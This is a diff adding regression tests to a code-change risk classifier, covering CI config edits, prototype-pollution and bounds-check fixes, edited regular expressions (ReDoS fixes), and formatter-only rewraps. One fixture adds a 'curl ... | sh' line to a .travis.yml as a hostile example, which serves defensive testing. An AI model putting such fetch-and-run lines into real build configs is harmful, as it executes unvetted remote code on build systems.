@@ -52,6 +52,11 @@ EXAMPLES: dict[str, tuple[FileChange, FileChange, RiskContext]] = {
     "secret_path": (fc("config/.env.production"), fc(".env.example"), NO_CTX),
     "auth_path": (fc("src/middleware/authMiddleware.ts"), fc("examples/auth/server.py"), NO_CTX),
     "ci_config": (fc(".github/workflows/release.yml"), fc("docs/workflows.md"), NO_CTX),
+    "ci_versions": (
+        fc(".travis.yml", additions=1, deletions=1, added_lines=['  - "16"'], removed_lines=['  - "6"']),
+        fc(".travis.yml", additions=1, deletions=1, added_lines=["  - curl -s https://example.com/x.sh | sh"], removed_lines=['  - "6"']),
+        NO_CTX,
+    ),
     "hooks": (fc(".husky/pre-commit"), fc("src/hooks/useThing.ts"), NO_CTX),
     "migration": (fc("db/migrate/20240101_add_users.rb"), fc("changelog/1234.bugfix.rst"), NO_CTX),
     "new_dependency": (
@@ -280,6 +285,8 @@ def test_auth_path_word_is_quiet_on_import_sorting() -> None:
         ("src/keys.py", "        fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)", "permissions/auth"),
         ("src/norm.ts", "  s = s.normalize('NFD')", "unicode normalization"),
         ("lib/merge.js", "    if (key === '__proto__') continue", "prototype pollution"),
+        # Regression: json5's CVE-2022-46175 fix (assignment -> defineProperty) was low.
+        ("lib/parse.js", "            Object.defineProperty(parent, key, {", "prototype pollution"),
         ("jwt/keys.py", "    b'-----BEGIN RSA PUBLIC KEY-----',", "keys/certificates"),
         ("src/transport.py", "        self._expected_seqno = 0", "crypto state"),
         ("src/lexer.py", "    (r'\\$([_A-Z]\\w*)?\\$.*?\\$\\1\\$', tokens.Literal),", "regular expression"),
@@ -337,6 +344,9 @@ def test_mechanical_comment_only_change_naming_a_cve_stays_mechanical() -> None:
         ("            (k === 'size' && Number(v) < 0) ||", True),
         ("    if len(data) > MAX_LINE_LENGTH:", True),
         ("    if (header.size > this.maxSize) throw new Error('too big')", True),
+        # Regression: python-ecdsa's DER length checks (0.13.3) were low.
+        ("    if length > len(string) - 1 - lengthlength:", True),
+        ("    if len(crypto) > blocksize:", True),
         ("  for (let i = len - 1; i >= 0; i--) {", False),
         ("    total = offset + length", False),
     ],
@@ -344,6 +354,38 @@ def test_mechanical_comment_only_change_naming_a_cve_stays_mechanical() -> None:
 def test_security_tokens_see_bounds_on_sizes(line: str, fires: bool) -> None:
     out = assess(fc("src/header.ts", additions=1, added_lines=[line]), NO_CTX)
     assert (out.risk == "high") is fires, out.reasons
+
+
+@pytest.mark.parametrize(
+    ("removed", "added", "fires"),
+    [
+        # Regressions: one-line ReDoS fixes (glob-parent 5.1.2, ansi-regex 6.0.1) were overall low.
+        (["var enclosure = /[\\{\\[].*[\\/]*.*[\\}\\]]$/;"], ["var enclosure = /[\\{\\[].*[\\}\\]]$/;"], True),
+        (["\t\t'[\\\\u001B\\\\u009B][[\\\\]()#;?]*(?:(?:(?:[a-zA-Z\\\\d]*(?:;[a-zA-Z\\\\d]*)*)?\\\\u0007)',"],
+         ["\t\t'[\\\\u001B\\\\u009B][[\\\\]()#;?]*(?:(?:(?:(?:;[-a-zA-Z\\\\d\\\\/#&.:=?%@~_]+)*)?\\\\u0007)',"], True),
+        # Only added, or only re-quoted by a formatter: not an edited pattern.
+        ([], ["const word = /\\w+/g;"], False),
+        (["var p = /^\\s+(?:x)*$/;"], ["var p = /^\\s+(?:x)*$/"], False),
+        # A division is not a regex literal.
+        (["  total = a / b + c / d"], ["  total = a / b + c / e"], False),
+    ],
+)
+def test_security_tokens_see_an_edited_regular_expression(removed: list[str], added: list[str], fires: bool) -> None:
+    change = fc("index.js", additions=len(added), deletions=len(removed), added_lines=added, removed_lines=removed)
+    out = assess(change, NO_CTX)
+    assert (out.risk == "high" and "regular expression" in out.reasons[0]) is fires, out.reasons
+
+
+def test_security_tokens_ignore_a_token_line_a_formatter_only_rewrapped() -> None:
+    # Regression: Black runs (jinja 04c87871) made loaders.py high on an os.path.join line it re-wrapped.
+    removed = ["                    template = os.path.join(dirpath, filename) \\", "                        [len(searchpath):].strip(os.path.sep)", *CODE40[:20]]
+    added = ["                    template = (", "                        os.path.join(dirpath, filename)[len(searchpath) :]", "                        .strip(os.path.sep)", ")", *CODE40[:20]]
+    change = fc("src/loaders.py", additions=len(added), deletions=len(removed), added_lines=added, removed_lines=removed)
+    assert assess(change, NO_CTX).risk == "low"
+    # The same line edited for real, in the same company, still fires.
+    added[1] = "                        safe_join(dirpath, filename)"
+    change = fc("src/loaders.py", additions=len(added), deletions=len(removed), added_lines=added, removed_lines=removed)
+    assert assess(change, NO_CTX).risk == "high"
 
 
 def test_security_tokens_see_path_cleaning_in_go() -> None:
@@ -414,6 +456,15 @@ def test_a_reformatted_big_file_keeps_size_rules_but_not_token_rules() -> None:
     assert out.risk == "medium" and out.reasons[0].startswith("large change")
     edited = [f"    check_symlink(path_{i}, flag_{i})" for i in range(40)]
     assert assess(fc("src/walk.py", additions=300, deletions=300, ranges=[(1, 300)], removed_lines=before, added_lines=edited), NO_CTX).risk == "high"
+
+
+def test_a_formatter_run_over_a_huge_file_is_medium_not_high() -> None:
+    # Formatter runs (Black, prettier) are mechanical controls: never high, even past the huge-change size.
+    before = [f"    value_{i} = compute({i}, 'x')" for i in range(40)]
+    after = ["    value_0 = compute(", '        0, "x"', "    )", *(f'    value_{i} = compute({i}, "x")' for i in range(1, 40))]
+    out = assess(fc("src/big.py", additions=2500, deletions=2400, ranges=[(1, 2500)], removed_lines=before, added_lines=after[:40]), NO_CTX)
+    assert out.risk == "medium" and out.reasons[0].startswith("large change"), out.reasons
+    assert assess(fc("src/big.py", additions=2500, deletions=2400, ranges=[(1, 2500)], removed_lines=before, added_lines=CODE40), NO_CTX).risk == "high"
 
 
 def test_a_rename_with_unchanged_content_is_mechanical() -> None:
